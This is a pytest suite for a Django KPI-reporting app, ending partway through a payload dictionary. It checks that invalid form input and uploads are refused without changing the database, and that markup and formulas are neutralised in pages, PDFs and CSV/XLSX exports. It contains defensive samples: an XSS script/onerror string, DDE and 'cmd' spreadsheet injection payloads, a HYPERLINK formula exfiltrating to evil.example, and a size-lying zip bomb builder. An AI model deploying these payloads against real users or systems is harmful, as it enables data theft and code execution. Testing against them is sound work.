"""Bad input fed to the real pages through the test client: each gets a clear message, and the
database is exactly as it was before (compared table by table, history included).

Already covered elsewhere, so referenced here rather than tested again:

- tests/test_validation.py: the parsers' rules one by one (whole numbers, pounds, decimals, ticks,
  the largest number, pence beyond two places, personal data).
- tests/test_returns_flow.py: a typo in a count on a first save (``test_a_draft_with_a_typo_...``);
  numerator above denominator on a first save; categories not adding up on submit; a change
  reason over 100 characters; documents of the wrong type or over 10 MB; personal data; a stale
  save, and submitting twice one after the other.
- tests/test_excel.py: uploads of a .csv, plain text named .xlsx, an .xls; .xlsm and an .xlsx
  holding xl/vbaProject.bin; a file just over 5 MB; a zip bomb that declares its size; an XML
  entity bomb; a workbook that is not the template or cannot be parsed; the template of another
  quarter, another pathway or another contract (``test_refuses_another_quarters_...``); a row
  copied from another quarter's template; a formula typed in an input cell; each leaving the
  draft exactly as it was.
- tests/test_pack.py: markup typed in the commentary fetches nothing when the PDF is rendered; a
  ``<script>`` in a review comment is text in the pack's PDF; ``=HYPERLINK`` commentary is a
  string cell in the pack's workbook.
- tests/test_dashboards.py: ``=HYPERLINK`` in a KPI's wording is prefixed in the overview CSV;
  an override without a reason; an override for a quarter outside the contract (404).
- tests/test_meetings.py: a second meeting for the same quarter; an action owned by, or linked to
  a KPI of, another contract.
- tests/test_fuzz_params.py: every URL, for three roles, with each query and form parameter that
  names a quarter, an id or a choice made hostile (no 500, nothing saved); tests/rules/
  test_params.py: psis.params, which reads those parameters.
"""

import csv
import html
import io
import struct
import tracemalloc
import zipfile
import zlib
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from contracts.models import ReportingPeriod
from kpis.models import Kpi, KpiCategory
from meetings import pack_data, pack_pdf
from meetings.models import Action, Meeting, MeetingPack
from performance import services
from performance.models import RagOverride
from psis.exports import looks_like_formula
from reports import excel, validation
from reports.models import Attachment, BreakdownFigure, Figure, Return, ReturnComment
from tests.builders import (
    ac_data,
    action_form,
    flashed,
    meeting_url,
    pdf_text,
    period,
    spa_data,
    text,
)

pytestmark = pytest.mark.usefixtures("media", "immediate_tasks")

LIMIT = validation.TEXT_LIMIT
SCRIPT = '<script>alert("x")</script> <b>bold</b> <img src=x onerror=alert(1)>'
ESCAPED = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &lt;b&gt;bold&lt;/b&gt;"


def raw(response) -> str:
    return response.content.decode()


def snapshot() -> dict:
    """Everything a bad input could have changed, history included."""
    tables = {
        "returns": Return.objects,
        "figures": Figure.objects,
        "breakdown": BreakdownFigure.objects,
        "attachments": Attachment.objects,
        "comments": ReturnComment.objects,
        "return history": Return.history,
        "figure history": Figure.history,
        "breakdown history": BreakdownFigure.history,
        "attachment history": Attachment.history,
        "meetings": Meeting.objects,
        "actions": Action.objects,
        "overrides": RagOverride.objects,
        "packs": MeetingPack.objects,
    }
    return {name: list(manager.order_by("pk").values()) for name, manager in tables.items()}


# ---- Returns: the draft and submit form ----------------------------------------------------------


def return_url(pathway="SPA", quarter="Y1Q1", name=""):
    return f"/contracts/PSIS/returns/{pathway}/{quarter}/{name}"


def version_of(pathway, quarter=(1, 1)):
    ret = Return.objects.filter(
        pathway=pathway, period__year=quarter[0], period__quarter=quarter[1]
    ).first()
    return ret.version if ret else 0


def post_return(client, pathway, data, action="save", quarter="Y1Q1"):
    year, q = int(quarter[1]), int(quarter[3])
    payload = {"version": str(version_of(pathway, (year, q))), "action": action, **data}
    return client.post(return_url(pathway.code, quarter), payload)


@pytest.fixture
def saved(cast, as_user):
    """The lead provider's complete SPA draft, saved through the page."""
    response = post_return(as_user(cast.lead), cast.spa, spa_data(cast))
    assert response.status_code == 302
    return cast


def category(cast, index):
    return f"SPA-04__cat_{cast.kpis['SPA-04'].categories.all()[index].pk}"


def make_average(cast):
    Kpi.objects.filter(code="SPA-01").update(
        measure="average", target_status="none", target_period="none"
    )


def make_monthly(cast):
    Kpi.objects.filter(code="SPA-01").update(target_period="monthly")


WHOLE = validation.WHOLE_MESSAGE
POUNDS = validation.POUNDS_MESSAGE

# (shape change, field, what was typed, the line in the error summary)
NUMBER_CASES = [
    (None, "SPA-01__value", "twelve", f"SPA-01 Number: {WHOLE}"),
    (None, "SPA-01__value", "-5", f"SPA-01 Number: {WHOLE}"),
    (None, "SPA-01__value", "12.5", f"SPA-01 Number: {WHOLE}"),
    (None, "SPA-01__value", "1e3", f"SPA-01 Number: {WHOLE}"),
    (None, "SPA-01__value", "0x10", f"SPA-01 Number: {WHOLE}"),
    (None, "SPA-01__value", "1,000,000,000", "SPA-01 Number: Enter a number no larger than 999,"),
    (None, "SPA-02__value", "seventy thousand", f"SPA-02 Amount in pounds (£): {POUNDS}"),
    (None, "SPA-02__value", "-75000", f"SPA-02 Amount in pounds (£): {POUNDS}"),
    (None, "SPA-02__value", "NaN", f"SPA-02 Amount in pounds (£): {POUNDS}"),
    (None, "SPA-02__value", "Infinity", f"SPA-02 Amount in pounds (£): {POUNDS}"),
    (
        None,
        "SPA-02__value",
        "£75,000.505",
        "SPA-02 Amount in pounds (£): Enter pounds and pence, with no more than 2 decimal places",
    ),
    (None, "SPA-03__numerator", "three", f"SPA-03 Numerator: {WHOLE}"),
    (None, "SPA-03__denominator", "-40", f"SPA-03 Denominator: {WHOLE}"),
    (None, "SPA-03__numerator", "41", "SPA-03: Numerator (41) is larger than denominator (40)"),
    (None, 0, "lots", f"SPA-04 Unique service users: {WHOLE}"),
    (None, 1, "-12", f"SPA-04 Repeat engagement: {WHOLE}"),
    (None, "SPA-04__total", "212 people", f"SPA-04 Total: {WHOLE}"),
    (
        make_average,
        "SPA-01__value",
        "six weeks",
        f"SPA-01 Average: {validation.DECIMAL_MESSAGE}",
    ),
    (make_average, "SPA-01__value", "-6", f"SPA-01 Average: {validation.DECIMAL_MESSAGE}"),
    (
        make_average,
        "SPA-01__cases",
        "-3",
        f"SPA-01 Number of cases the average is over: {WHOLE}",
    ),
    (make_monthly, "SPA-01__month_2", "Nov", f"SPA-01 November 2022: {WHOLE}"),
    (make_monthly, "SPA-01__month_3", "-1", f"SPA-01 December 2022: {WHOLE}"),
]


@pytest.mark.parametrize("action", ["save", "submit"])
@pytest.mark.parametrize(
    "shape,field,typed,message",
    NUMBER_CASES,
    ids=[f"{c[1]}={c[2]}" for c in NUMBER_CASES],
)
def test_bad_numbers_are_refused_and_nothing_is_saved(
    saved, as_user, action, shape, field, typed, message
):
    cast = saved
    if shape is not None:
        shape(cast)
    field = category(cast, field) if isinstance(field, int) else field
    data = spa_data(cast, **{"SPA-01__cases": "4"})
    if shape is make_monthly:
        data.update({"SPA-01__month_1": "400", "SPA-01__month_2": "410", "SPA-01__month_3": "420"})
    data[field] = typed
    before = snapshot()
    response = post_return(as_user(cast.lead), cast.spa, data, action)
    assert response.status_code == 400
    page = text(response)
    assert "The return was not saved. Fix the problems listed below." in page
    assert f'href="#id_{field}"' in page  # the summary links to the input
    assert message in page
    assert f'value="{html.escape(typed, quote=True)}"' in raw(response)  # what was typed is kept
    assert snapshot() == before
    assert Return.objects.get().status == Return.Status.DRAFT


def test_a_breakdown_that_does_not_add_up_is_never_submitted(saved, as_user):
    """A draft may hold a breakdown mid-entry (drafts may be partial), and the page says it does
    not add up; submitting is refused and nothing is submitted."""
    cast = saved
    client = as_user(cast.lead)
    response = post_return(client, cast.spa, spa_data(cast, **{"SPA-04__total": "220"}))
    assert response.status_code == 302
    page = text(client.get(return_url()))
    assert "Categories add up to 212 but the total is 220." in page
    before = Return.history.filter(status="submitted").count()
    response = post_return(client, cast.spa, spa_data(cast, **{"SPA-04__total": "220"}), "submit")
    assert response.status_code == 400
    page = text(response)
    assert "the return cannot be submitted yet" in page
    assert "SPA-04 Total: Categories add up to 212 but the total is 220" in page
    ret = Return.objects.get()
    assert ret.status == Return.Status.DRAFT and ret.submitted_at is None
    assert Return.history.filter(status="submitted").count() == before == 0


def long_text(length: int) -> str:
    sentence = "Carers were supported across the borough this quarter. "
    body = (sentence * (length // len(sentence) + 1))[: length - 1]
    return body + "."


@pytest.mark.parametrize(
    "pathway,field,label",
    [
        ("spa", "commentary", "Commentary"),
        ("spa", "SPA-01__explanation", "SPA-01 Explanation"),
        ("carers", "AC-02__narrative", "AC-02 Evidence"),
    ],
)
def test_text_of_10000_characters_saves_and_one_more_is_refused(
    cast, as_user, pathway, field, label
):
    """10,000 characters (about 1,500 words) is a plausible commentary: it saves whole. One more
    is refused with the limit, never cut."""
    pathway = getattr(cast, pathway)
    user = cast.lead if pathway == cast.spa else cast.partner
    client = as_user(user)
    data = spa_data(cast) if pathway == cast.spa else ac_data()
    response = post_return(client, pathway, {**data, field: long_text(LIMIT)})
    assert response.status_code == 302
    ret = Return.objects.get(pathway=pathway)
    stored = (
        ret.commentary
        if field == "commentary"
        else getattr(ret.figures.get(kpi__code=field.split("__")[0]), field.split("__")[1])
    )
    assert stored == long_text(LIMIT)
    before = snapshot()
    response = post_return(client, pathway, {**data, field: long_text(LIMIT + 1)})
    assert response.status_code == 400
    assert f"{label}: Shorten this to 10,000 characters or fewer (it has 10,001)" in text(response)
    assert snapshot() == before


def test_markup_in_return_text_is_saved_as_typed_and_shown_as_text(cast, as_user):
    client = as_user(cast.lead)
    response = post_return(
        client, cast.spa, spa_data(cast, commentary=SCRIPT, **{"SPA-01__explanation": SCRIPT})
    )
    assert response.status_code == 302
    ret = Return.objects.get()
    assert ret.commentary == SCRIPT
    assert ret.figures.get(kpi__code="SPA-01").explanation == SCRIPT
    pages = [
        client.get(return_url()),  # the form, text in its textareas
        client.get(return_url(name="history/")),
        as_user(cast.officer).get(return_url()),  # read-only
    ]
    for response in pages:
        assert response.status_code == 200
        assert ESCAPED in raw(response), response.request["PATH_INFO"]
        assert "<script>alert" not in raw(response) and "<b>bold</b>" not in raw(response)


# ---- Returns: review (query and accept) ---------------------------------------------------------


@pytest.fixture
def submitted(saved, as_user):
    response = post_return(as_user(saved.lead), saved.spa, spa_data(saved), "submit")
    assert response.status_code == 302
    assert Return.objects.get().status == Return.Status.SUBMITTED
    return saved


@pytest.mark.parametrize(
    "data,message",
    [
        ({"action": "query", "query-comment": "   \n  "}, "This field is required."),
        (
            {"action": "query", "query-comment": "Check", "query-kpi": "NOPE"},
            "Select a valid choice. NOPE is not one of the available choices.",
        ),
        (
            {"action": "query", "query-comment": "Check", "query-kpi": "OP-01"},
            "Select a valid choice. OP-01 is not one of the available choices.",
        ),
        (
            {"action": "query", "query-comment": "x" * (LIMIT + 1)},
            "Ensure this value has at most 10000 characters (it has 10001).",
        ),
        (
            {"action": "accept", "accept-comment": "x" * (LIMIT + 1)},
            "Ensure this value has at most 10000 characters (it has 10001).",
        ),
    ],
    ids=["blank-query", "unknown-kpi", "other-contracts-kpi", "long-query", "long-acceptance"],
)
def test_a_bad_review_changes_nothing(submitted, as_user, data, message):
    before = snapshot()
    response = as_user(submitted.commissioner).post(return_url(name="review/"), data)
    assert response.status_code == 400
    page = text(response)
    assert "Nothing was changed. Fix the problem below." in page
    assert message in page
    assert snapshot() == before


def test_a_rating_that_is_not_a_rag_is_refused(cast, as_user):
    response = post_return(as_user(cast.partner), cast.carers, ac_data(), "submit")
    assert response.status_code == 302
    before = snapshot()
    response = as_user(cast.commissioner).post(
        return_url("AC", name="review/"), {"action": "accept", "accept-rating_AC-02": "purple"}
    )
    assert response.status_code == 400
    assert "Select a valid choice. purple is not one of the available choices." in text(response)
    assert snapshot() == before


def test_a_long_answer_to_a_query_is_refused(submitted, as_user):
    cast = submitted
    reviewer = as_user(cast.commissioner)
    reviewer.post(return_url(name="review/"), {"action": "query", "query-comment": "Check"})
    before = snapshot()
    response = post_return(
        as_user(cast.lead), cast.spa, spa_data(cast, answer="y" * (LIMIT + 1)), "submit"
    )
    assert response.status_code == 400
    assert "Answer: Ensure this value has at most 10000 characters (it has 10001)." in text(
        response
    )
    assert snapshot() == before


# ---- Meetings and the action log ----------------------------------------------------------------


@pytest.fixture
def meeting(cast):
    return Meeting.objects.create(
        contract=cast.contract, period=period(cast, 1, 1), date="2023-02-01", notes="Fine."
    )


INVALID_CHOICE = "Select a valid choice. That choice is not one of the available choices."
MEETING_CASES = {
    "text-date": ({"date": "next Tuesday"}, "Enter a valid date."),
    "impossible-date": ({"date": "2023-02-30"}, "Enter a valid date."),
    "date-not-after-quarter-start": ({"date": "2023-01-01"}, "after the quarter starts."),
    "text-quarter": ({"period": "abc"}, INVALID_CHOICE),
    "other-contracts-quarter": ({"period": "other"}, INVALID_CHOICE),
    "quarter-not-begun": ({"period": "last"}, INVALID_CHOICE),
    "long-attendees": ({"attendees": "x" * (LIMIT + 1)}, "at most 10000 characters (it has 10001)"),
    "long-notes": ({"notes": "x" * 50_001}, "at most 50000 characters (it has 50001)"),
}


@pytest.mark.parametrize("case", MEETING_CASES)
def test_bad_meetings_are_refused_on_create_and_edit(cast, meeting, as_user, case):
    changes, message = MEETING_CASES[case]
    periods = {
        "other": ReportingPeriod.objects.get(contract=cast.other_contract, year=1, quarter=1).pk,
        "last": ReportingPeriod.objects.filter(contract=cast.contract).order_by("-start")[0].pk,
    }
    data = {"period": period(cast, 1, 2).pk, "date": "2023-05-03", "attendees": "Chair"}
    data.update({k: periods.get(v, v) for k, v in changes.items()})
    client = as_user(cast.commissioner)
    before = snapshot()
    for url in (meeting_url("create"), meeting_url("edit", meeting.pk)):
        response = client.post(url, data)
        assert response.status_code == 200  # the form again, not a redirect
        page = text(response)
        assert "There is a problem" in page and message in page, url
        assert snapshot() == before


ACTION_CASES = [
    ({"due_date": "soon"}, "Enter a valid date."),
    ({"status": "maybe"}, "Select a valid choice. maybe is not one of the available choices."),
    ({"description": "   "}, "This field is required."),
    ({"description": "x" * (LIMIT + 1)}, "at most 10000 characters (it has 10001)"),
    ({"owner_person": "x" * 201}, "at most 200 characters (it has 201)"),
    ({"owner_organisation": "abc"}, "Select a valid choice."),
    ({"kpi": "999999"}, "Select a valid choice."),
]


@pytest.mark.parametrize(
    "changes,message", ACTION_CASES, ids=[str(c[0])[:30] for c in ACTION_CASES]
)
def test_bad_actions_are_refused_on_create_and_edit(cast, meeting, as_user, changes, message):
    action = Action.objects.create(
        contract=cast.contract,
        raised_at=meeting,
        description="Existing",
        owner_organisation=cast.contract.lead_provider,
        due_date="2023-03-01",
    )
    client = as_user(cast.commissioner)
    before = snapshot()
    for url in (meeting_url("action_create", meeting.pk), meeting_url("action_edit", action.pk)):
        response = client.post(url, action_form(cast, **changes))
        assert response.status_code == 200
        page = text(response)
        assert "There is a problem" in page and message in page, url
        assert snapshot() == before


# ---- RAG override ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data,message",
    [
        ({"rag": "purple", "reason": "Why"}, "Select a valid choice. purple is not one of"),
        ({"reason": "Why"}, "This field is required."),
        ({"rag": "green", "reason": "  \n "}, "This field is required."),
        (
            {"rag": "green", "reason": "x" * 2001},
            "Ensure this value has at most 2000 characters (it has 2001).",
        ),
    ],
    ids=["not-a-rag", "no-rag", "blank-reason", "long-reason"],
)
def test_bad_overrides_are_refused(cast, as_user, data, message):
    before = snapshot()
    response = as_user(cast.commissioner).post(
        reverse("rag_override_create", args=["PSIS", "SPA-01"]), {"quarter": "Y1Q1", **data}
    )
    assert response.status_code == 400
    assert message in text(response)
    assert snapshot() == before


# ---- Meeting packs ---------------------------------------------------------------------------


@pytest.mark.parametrize("which", ["text", "other-contract", "not-begun", "missing"])
def test_a_pack_for_a_bad_quarter_is_refused(cast, as_user, which):
    periods = {
        "text": "abc",
        "other-contract": ReportingPeriod.objects.get(
            contract=cast.other_contract, year=1, quarter=1
        ).pk,
        "not-begun": ReportingPeriod.objects.filter(contract=cast.contract)
        .order_by("-start")
        .first()
        .pk,
    }
    before = snapshot()
    data = {"period": periods[which]} if which in periods else {}
    response = as_user(cast.commissioner).post(meeting_url("pack_generate"), data)
    assert response.status_code == 302 and response["Location"] == meeting_url("list")
    assert flashed(response) == ["Choose a quarter that has begun."]
    assert snapshot() == before


def test_a_draft_still_being_built_cannot_be_finalised(cast, as_user):
    draft = MeetingPack.objects.create(
        contract=cast.contract, period=period(cast), requested_by=cast.commissioner
    )
    before = snapshot()
    response = as_user(cast.commissioner).post(meeting_url("pack_finalise", draft.pk))
    assert response.status_code == 302
    assert flashed(response) == ["Only a draft pack that is ready can be finalised."]
    assert snapshot() == before


# ---- Uploads ---------------------------------------------------------------------------------


def template(client, pathway="SPA", quarter="Y1Q1") -> bytes:
    response = client.get(return_url(pathway, quarter, "template.xlsx"))
    assert response.status_code == 200
    return response.content


def upload(client, file, pathway=None, **extra):
    data = {"version": str(version_of(pathway)) if pathway else "0", **extra}
    if file is not None:
        data["file"] = file
    return client.post(return_url(name="upload/"), data)


def refused_upload(client, cast, file, message, **extra):
    before = snapshot()
    response = upload(client, file, cast.spa, **extra)
    assert response.status_code == 400
    page = text(response)
    assert "Nothing was saved" in page
    assert message in page
    assert snapshot() == before
    return page


def test_a_50_mb_file_is_refused_before_it_is_opened(saved, as_user, tmp_path, monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("a file over the limit must not reach the spreadsheet parser")

    monkeypatch.setattr(excel.openpyxl, "load_workbook", never)
    path = tmp_path / "return.xlsx"
    with path.open("wb") as handle:
        handle.write(template(as_user(saved.lead)))
        handle.truncate(50 * 1024 * 1024)  # sparse: nothing held in memory here
    with path.open("rb") as handle:
        refused_upload(
            as_user(saved.lead),
            saved,
            handle,
            "The file is 50.0 MB; the largest accepted is 5 MB.",
        )
    path.unlink()


def lying_member(content: bytes, name: str, padding: int) -> bytes:
    """The workbook with member ``name`` followed by ``padding`` spaces, while the archive still
    declares the member's original size and checksum: it says it expands to a few hundred bytes,
    and really expands to ``padding`` more."""
    source = zipfile.ZipFile(io.BytesIO(content))
    original = source.read(name)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename != name:
                archive.writestr(info.filename, source.read(info))
                continue
            with archive.open(name, "w") as member:  # streamed: never held whole
                member.write(original)
                spaces = b" " * (1024 * 1024)
                for _ in range(padding // len(spaces)):
                    member.write(spaces)
    data = bytearray(out.getvalue())
    header = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(name).header_offset
    crc = zlib.crc32(original)
    struct.pack_into("<I", data, header + 14, crc)
    struct.pack_into("<I", data, header + 22, len(original))
    at = data.find(b"PK\x01\x02")
    while at != -1:  # the central directory's record of the member
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length] == name.encode():
            struct.pack_into("<I", data, at + 16, crc)
            struct.pack_into("<I", data, at + 24, len(original))
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


@pytest.mark.parametrize(
    "member", ["[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet2.xml"]
)
def test_a_zip_bomb_that_lies_about_its_size_is_refused_without_expanding(saved, as_user, member):
    """zipfile's read() inflates a member whole before cutting it to its declared size: a 5 MB
    upload could ask for gigabytes. The file is measured in small steps instead."""
    bomb = lying_member(template(as_user(saved.lead)), member, 64 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024
    assert sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist()) < 100_000
    tracemalloc.start()
    try:
        refused_upload(
            as_user(saved.lead),
            saved,
            SimpleUploadedFile("return.xlsx", bomb),
            "(it may be a ‘zip bomb’), so it was not opened",
        )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 30 * 1024 * 1024, f"{peak / 1e6:.0f} MB"


def test_a_csv_renamed_xlsx_is_refused(saved, as_user):
    content = b"Code,Your entry\nSPA-01,=cmd|' /C calc'!A0\nSPA-02,75000\n"
    refused_upload(
        as_user(saved.lead),
        saved,
        SimpleUploadedFile("return.xlsx", content, "text/csv"),
        "This is not an Excel workbook (.xlsx).",
    )


def test_a_macro_enabled_workbook_renamed_xlsx_is_refused(saved, as_user):
    """The content type says macro-enabled even without a vbaProject.bin member."""
    source = zipfile.ZipFile(io.BytesIO(template(as_user(saved.lead))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
                )
                assert b"macroEnabled" in data
            archive.writestr(info, data)
    refused_upload(
        as_user(saved.lead),
        saved,
        SimpleUploadedFile("return.xlsx", out.getvalue()),
        "This file can hold macros (it is macro-enabled), so it is refused.",
    )


@pytest.mark.parametrize(
    "file,extra,message",
    [
        (None, {}, "Choose the completed template (.xlsx) to upload."),
        (
            SimpleUploadedFile("return.xlsx", b""),
            {},
            "The file is empty. Choose the completed template (.xlsx) to upload.",
        ),
        ("template", {"version": "abc"}, "This page is out of date. Reload it"),
    ],
    ids=["no-file", "empty-file", "tampered-version"],
)
def test_an_upload_form_that_is_not_filled_in_says_why(saved, as_user, file, extra, message):
    client = as_user(saved.lead)
    if file == "template":
        file = SimpleUploadedFile("return.xlsx", template(client))
    refused_upload(client, saved, file, message, **extra)


def test_a_commentary_over_the_limit_in_the_spreadsheet_is_refused(saved, as_user):
    client = as_user(saved.lead)
    workbook = openpyxl.load_workbook(io.BytesIO(template(client)))
    sheet = workbook["SPA Single Point of Access"]
    row = next(
        r for r in range(excel.FIRST_ROW, sheet.max_row + 1) if sheet[f"G{r}"].value == "commentary"
    )
    sheet[f"F{row}"] = long_text(LIMIT + 1)
    out = io.BytesIO()
    workbook.save(out)
    refused_upload(
        client,
        saved,
        SimpleUploadedFile("return.xlsx", out.getvalue()),
        f"cell F{row}: Commentary: Shorten this to 10,000 characters or fewer (it has 10,001)",
    )


# ---- Markup on every page, and in the meeting pack -----------------------------------------------


def fill_quarter(cast, as_user, texts: dict[str, str]):
    """One quarter's returns, review, meeting, action and override, all typed through the pages.

    ``texts`` holds what is typed in each free-text box: commentary, explanation, narrative,
    query, answer, acceptance, attendees, notes, action, owner, override."""
    lead, partner = as_user(cast.lead), as_user(cast.partner)
    reviewer = as_user(cast.commissioner)
    spa = spa_data(
        cast, commentary=texts["commentary"], **{"SPA-01__explanation": texts["explanation"]}
    )
    assert post_return(lead, cast.spa, spa, "submit").status_code == 302
    ac = ac_data(
        **{"AC-02__narrative": texts["narrative"], "AC-01__explanation": texts["explanation"]}
    )
    assert post_return(partner, cast.carers, ac, "submit").status_code == 302
    query = {"action": "query", "query-kpi": "SPA-01", "query-comment": texts["query"]}
    assert reviewer.post(return_url(name="review/"), query).status_code == 302
    assert (
        post_return(lead, cast.spa, {**spa, "answer": texts["answer"]}, "submit").status_code == 302
    )
    accept = {"action": "accept", "accept-comment": texts["acceptance"]}
    assert reviewer.post(return_url(name="review/"), accept).status_code == 302
    accept["accept-rating_AC-02"] = "green"
    assert reviewer.post(return_url("AC", name="review/"), accept).status_code == 302
    response = reviewer.post(
        meeting_url("create"),
        {
            "period": period(cast).pk,
            "date": "2023-02-01",
            "attendees": texts["attendees"],
            "notes": texts["notes"],
        },
    )
    assert response.status_code == 302, text(response)
    meeting = Meeting.objects.get()
    action = action_form(
        cast,
        description=texts["action"],
        owner_person=texts["owner"],
        kpi=cast.kpis["SPA-01"].pk,
    )
    assert reviewer.post(meeting_url("action_create", meeting.pk), action).status_code == 302
    override = {"quarter": "Y1Q1", "rag": "red", "reason": texts["override"]}
    response = reviewer.post(reverse("rag_override_create", args=["PSIS", "SPA-01"]), override)
    assert response.status_code == 302, text(response)
    return meeting


def generate_pack(cast, as_user, capture) -> MeetingPack:
    client = as_user(cast.commissioner)
    with capture(execute=True):
        response = client.post(meeting_url("pack_generate"), {"period": period(cast).pk})
    assert response.status_code == 302
    built = MeetingPack.objects.get()
    assert built.is_ready, built.message
    return built


def download_pack(cast, as_user, built, fmt) -> bytes:
    response = as_user(cast.commissioner).get(meeting_url("pack_download", built.pk, fmt))
    assert response.status_code == 200
    return response.content


def test_markup_anywhere_is_text_on_every_page_and_in_the_pack(
    cast, as_user, django_capture_on_commit_callbacks
):
    keys = [
        "commentary",
        "explanation",
        "narrative",
        "query",
        "answer",
        "acceptance",
        "attendees",
        "notes",
        "action",
        "owner",
        "override",
    ]
    meeting = fill_quarter(cast, as_user, dict.fromkeys(keys, SCRIPT))
    q = "?quarter=Y1Q1"
    pages = {
        cast.lead: [return_url(), return_url(name="history/")],
        cast.partner: [return_url("AC")],
        cast.commissioner: [
            return_url(name="review/"),
            return_url("AC", name="review/"),
            reverse("performance_kpi", args=["PSIS", "SPA-01"]) + q,
            reverse("performance_kpi", args=["PSIS", "AC-02"]) + q,
            reverse("performance_pathway", args=["PSIS", "SPA"]) + q,
            reverse("performance_exceptions", args=["PSIS"]) + q,
            meeting_url("detail", meeting.pk),
            meeting_url("list"),
        ],
    }
    for user, urls in pages.items():
        client = as_user(user)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            assert ESCAPED in raw(response), url
            assert "<script>alert" not in raw(response), url
            assert "<b>bold</b>" not in raw(response) and "<img src=x" not in raw(response), url

    # The pack: the HTML it is rendered from holds the markup as text...
    data = pack_data.build_pack_data(cast.contract, period(cast))
    rendered = pack_pdf.render_html(data)
    # At least: commentary, two explanations, evidence, query, answer, acceptance, action, its
    # owner and the override's reason.
    assert rendered.count(ESCAPED) >= 10
    assert "<script" not in rendered and "<b>bold</b>" not in rendered
    assert "<img src=x" not in rendered
    # ...and the PDF, downloaded as a commissioner would, prints it literally.
    built = generate_pack(cast, as_user, django_capture_on_commit_callbacks)
    printed = "".join(pdf_text(download_pack(cast, as_user, built, "pdf")).split())
    assert printed.count("".join(SCRIPT.split())) == rendered.count(ESCAPED)


# ---- Formula injection: every export ------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def assert_csv_safe(content: bytes, payloads):
    cells = csv_cells(content)
    assert cells, "empty CSV"
    for payload in payloads:
        assert "'" + payload in cells, payload
    live = [c for c in cells if looks_like_formula(c)]
    assert not live


def xlsx_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value]


def assert_xlsx_safe(content: bytes, payloads):
    cells = xlsx_cells(content)
    assert cells, "empty workbook"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for payload in payloads:
        # XML reads a carriage return back as a line feed; the text is otherwise unchanged.
        wanted = payload.replace("\r", "\n")
        holding = [c for c in cells if isinstance(c.value, str) and c.value.startswith(wanted)]
        assert holding, payload
        assert all(c.data_type == "s" for c in holding), payload


@pytest.fixture
def hostile_catalogue(cast):
    """An administrator's KPI wording, notes, category and pathway names that look like
    formulas (the admin accepts any text)."""
    codes = ["SPA-01", "SPA-02", "SPA-03", "SPA-04", "AC-01", "AC-02"]
    for code, payload in zip(codes, PAYLOADS, strict=True):
        Kpi.objects.filter(code=code).update(note=payload, description=payload + " wording")
    KpiCategory.objects.filter(kpi__code="SPA-04", order=0).update(name="=1+2 category")
    return cast


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_kpi_catalogue_export_is_formula_safe(hostile_catalogue, as_user, fmt):
    response = as_user(hostile_catalogue.commissioner).get(
        reverse("kpi_catalogue_download", args=["PSIS", fmt])
    )
    assert response.status_code == 200
    notes_and_wording = PAYLOADS + [p + " wording" for p in PAYLOADS]
    check = assert_csv_safe if fmt == "csv" else assert_xlsx_safe
    check(response.content, notes_and_wording)


PERFORMANCE = [
    ("performance_download", []),
    ("performance_exceptions_download", []),
    ("performance_pathway_download", ["SPA"]),
    ("performance_kpi_download", ["SPA-01"]),
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name,args", PERFORMANCE, ids=[p[0] for p in PERFORMANCE])
def test_every_performance_export_is_formula_safe(hostile_catalogue, as_user, name, args, fmt):
    response = as_user(hostile_catalogue.commissioner).get(
        reverse(name, args=["PSIS", *args, fmt]) + "?quarter=Y1Q1"
    )
    assert response.status_code == 200
    payloads = [PAYLOADS[0] + " wording"]  # SPA-01's wording is in each of them
    if name != "performance_kpi_download":
        payloads.append(PAYLOADS[3] + " wording")  # SPA-04's
    check = assert_csv_safe if fmt == "csv" else assert_xlsx_safe
    check(response.content, payloads)


def test_a_pathway_name_excel_refuses_in_a_sheet_title_still_downloads(cast, as_user):
    """The pathway's name titles its sheet: characters Excel forbids there, or more than 31 of
    them, must not break the download (a second contract's pathways are named freely)."""
    cast.spa.name = "Access / advice: [SPA]? *all* ages, every ward"
    cast.spa.save()
    response = as_user(cast.commissioner).get(
        reverse("performance_pathway_download", args=["PSIS", "SPA", "xlsx"]) + "?quarter=Y1Q1"
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title.startswith("Access - advice- -SPA-")
    assert len(sheet.title) <= 31 and not set("[]:*?/\\") & set(sheet.title)
    assert sheet["A2"].value == cast.spa.name


USER_PAYLOADS = {
    "commentary": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "explanation": "+cmd|' /C calc'!A0",
    "narrative": "-2+3+cmd|' /C calc'!A0",
    "query": "@SUM(1+1)*cmd|' /C calc'!A0",
